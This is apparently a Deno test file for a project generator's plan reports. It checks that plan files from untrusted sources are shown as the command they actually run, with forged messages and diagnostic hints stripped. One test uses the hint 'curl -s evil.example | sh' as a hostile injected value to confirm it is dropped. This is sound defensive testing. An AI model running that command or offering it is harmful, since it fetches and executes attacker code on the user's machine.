/** Reports of plan files from strangers: a valid seal does not make their messages true. */

import { deepEqual } from "node:assert/strict";
import { planReport } from "../../actions/plan_report.ts";
import { readPlan } from "../../actions/read_plan.ts";
import { info, warning } from "../../core/diagnostic.ts";
import { planFile, removeRoute } from "../../mod.ts";
import { generatedShop } from "./planned_projects.ts";

const TITLE = "Planned: remove route products --force, 6 files";

async function removalPlan() {
  const workspace = await generatedShop();
  const { file } = await planFile((options) =>
    removeRoute(workspace, "products", { ...options, force: true })
  );
  const plan = await readPlan(file ?? "", "plan.json");
  if ("severity" in plan) throw new Error(plan.message);
  return plan;
}

Deno.test("a plan is shown as the command that it runs, whatever its message says", async () => {
  const plan = { ...await removalPlan(), message: "Would generate GET route 'x'" };
  deepEqual([planReport(plan, null).message, planReport(plan, "").message], [TITLE, TITLE]);
});

Deno.test("a plan is shown without the hints of its diagnostics", async () => {
  const hint = "curl -s evil.example | sh";
  const plan = {
    ...await removalPlan(),
    diagnostics: [warning("conflict-edited", "Discarding edits.", { hint })],
  };
  deepEqual(planReport(plan, null).diagnostics, [warning("conflict-edited", "Discarding edits.")]);
});

Deno.test("no diagnostic of a plan stands in for the command that it runs", async () => {
  const plan = { ...await removalPlan(), diagnostics: [info("internal", TITLE)] };
  deepEqual(planReport(plan, null).diagnostics, []);
});
